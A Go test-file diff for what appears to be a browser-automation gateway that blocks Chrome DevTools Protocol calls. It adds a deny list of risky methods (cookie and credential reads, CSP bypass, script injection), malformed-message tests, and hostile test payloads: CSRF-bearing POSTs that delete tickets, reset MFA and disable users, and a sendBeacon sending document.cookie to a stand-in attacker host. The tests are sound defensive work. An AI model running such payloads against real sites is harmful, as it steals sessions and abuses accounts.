@@ -67,9 +67,21 @@ func speak(t *testing.T, r *rig.Rig, steps ...string) (task.Task, []string, stri
 	return x, got, came
 }
 
-// denied are the methods that the door's own table refuses in every profile.
-func deniedMethods(t *testing.T) (out []string) {
+// notorious are methods that get around a boundary by themselves. They are here
+// by name, so that no change of the door's own table lets one through unseen.
+const notorious = `Target.sendMessageToTarget Target.exposeDevToolsProtocol Target.openDevTools Target.setRemoteLocations Extensions.loadUnpacked Security.setIgnoreCertificateErrors
+Page.addCompilationCache Page.setDocumentContent Page.setBypassCSP Page.captureSnapshot Page.printToPDF Network.setExtraHTTPHeaders Network.setCookie Network.setCookies Storage.setCookies Storage.getCookies
+Network.getCookies Network.getAllCookies Network.getRequestPostData Network.getResponseBody Network.loadNetworkResource Network.replayXHR Network.setBypassServiceWorker WebAuthn.enable WebAuthn.addVirtualAuthenticator
+WebAuthn.getCredentials DOM.setFileInputFiles DOM.setOuterHTML DOM.setAttributeValue Input.dispatchDragEvent Input.dispatchTouchEvent Input.synthesizeTapGesture Input.imeSetComposition WebMCP.invokeTool
+FedCm.selectAccount Autofill.trigger DeviceAccess.selectPrompt HeapProfiler.takeHeapSnapshot Tracing.start IO.read DOMSnapshot.captureSnapshot Tethering.bind Emulation.setPageScaleFactor Emulation.setVisibleSize
+Emulation.setScriptExecutionDisabled Input.setIgnoreInputEvents Debugger.enable Debugger.setScriptSource ServiceWorker.deliverPushMessage ServiceWorker.dispatchSyncEvent Runtime.compileScript Runtime.runScript
+DOMStorage.getDOMStorageItems IndexedDB.requestData CacheStorage.requestEntries Fetch.enable Fetch.continueRequest Fetch.continueWithAuth Browser.grantPermissions Browser.executeBrowserCommand Browser.crash
+FileSystem.getDirectory PWA.install SystemInfo.getInfo Cast.startTabMirroring DigitalCredentials.setVirtualWalletBehavior`
+
+// deniedMethods are those, and all that the door's own table refuses in every profile.
+func deniedMethods(t *testing.T) []string {
 	t.Helper()
+	out := strings.Fields(notorious)
 	b, err := os.ReadFile("../../internal/surface/cdp/methods.txt")
 	if err != nil {
 		t.Fatal(err)
@@ -103,6 +115,9 @@ func TestProtocolRefuses(t *testing.T) {
 	methods := deniedMethods(t)
 	if len(methods) < 400 {
 		t.Fatalf("the table refuses %d methods", len(methods))
+	}
+	for _, m := range methods { // refused by name, and not for its parameters
+		add("(cdp_denied_method)", "page:"+m+" {}")
 	}
 	add("", "each:"+strings.Join(methods, " "))
 	want[len(want)-1] = "none"
@@ -150,11 +165,11 @@ func TestProtocolRefuses(t *testing.T) {
 // Threats: T2, M1 (form)
 func TestProtocolIsReadStrictly(t *testing.T) {
 	r := withProtocol(t)
-	const evil = `"method":"Runtime.evaluate","params":{"expression":"document.title='done by a malformed message'"}`
+	const evil = `"sessionId":"SESSION","method":"Runtime.evaluate","params":{"expression":"document.title='done by a malformed message'"}`
 	var steps []string
 	for _, m := range []string{`{"id":1000001,"id":1000002,` + evil + `}`, `{"id":1000003,"method":"Page.enable",` + evil + `}`, `{"id":1000004,` + evil + `,"params":{}}`, `{"id":1000005,` + evil + `}{"id":1000006}`,
 		`[{"id":1000007,` + evil + `}]`, `{"ID":1000008,` + evil + `}`, `{"id":9007199254740993,` + evil + `}`, `{"id":1.5,` + evil + `}`, `{"id":"1",` + evil + `}`, `{"id":-1,` + evil + `}`, `{` + evil + `}`, `{"id":null,` + evil + `}`,
-		`{"id":1000009,` + evil + `,"extra":1}`, `{"id":1000010,` + evil + `,"sessionId":1}`, `{"id":1000011,"method":"Runtime.evaluate","params":[1]}`, "\ufeff{\"id\":1000012," + evil + "}", `{"id":1000013,` + evil + `,"sessionId":"A"}`,
+		`{"id":1000009,` + evil + `,"extra":1}`, `{"id":1000010,` + evil + `,"sessionId":"SESSION"}`, `{"id":1000011,"method":"Runtime.evaluate","params":[1]}`, "\ufeff{\"id\":1000012," + evil + "}", `{"id":1000013,` + strings.Replace(evil, "SESSION", "0123456789ABCDEF0123456789ABCDEF", 1) + `}`,
 		strings.Repeat("[", 10000), `{"id":1000014,"params":` + strings.Repeat(`{"a":`, 2000) + "1" + strings.Repeat("}", 2000) + `,"method":"Page.enable"}`} {
 		steps = append(steps, "text:"+base64.StdEncoding.EncodeToString([]byte(m)))
 	}
@@ -188,7 +203,7 @@ func TestProtocolScriptsCannotAct(t *testing.T) {
 		return fmt.Sprintf(`{"expression":"fetch('%s',{method:'POST',credentials:'include',body:new URLSearchParams({_csrf:document.querySelector('meta[name=csrf-token]').content})}).then(r=>r.status,e=>'failed')","awaitPromise":true,"userGesture":true}`, to)
 	}
 	iam := protocolSeen.URL(estate.IAM)
-	steps := []string{`page:Page.navigate {"url":"` + page + `"}`, "wait:4000", // no input explains anything any more
+	steps := []string{`page:Page.navigate {"url":"` + page + `"}`, "wait:800", // no input explains anything
 		`page:Runtime.evaluate ` + post("/tickets/4712/delete"), `page:Runtime.evaluate ` + post("/tickets/4712/close"), `page:Runtime.evaluate ` + post(iam+"/users/jo/mfa/reset"), `page:Runtime.evaluate ` + post(iam+"/users/sam/disable"),
 		`page:Runtime.evaluate {"expression":"document.querySelector('#close button').click()","userGesture":true}`, "wait:1300",
 		`page:Page.navigate {"url":"` + page + `"}`, `page:Runtime.evaluate {"expression":"navigator.sendBeacon('` + protocolSeen.URL(estate.Evil) + `/collect',document.cookie)"}`,
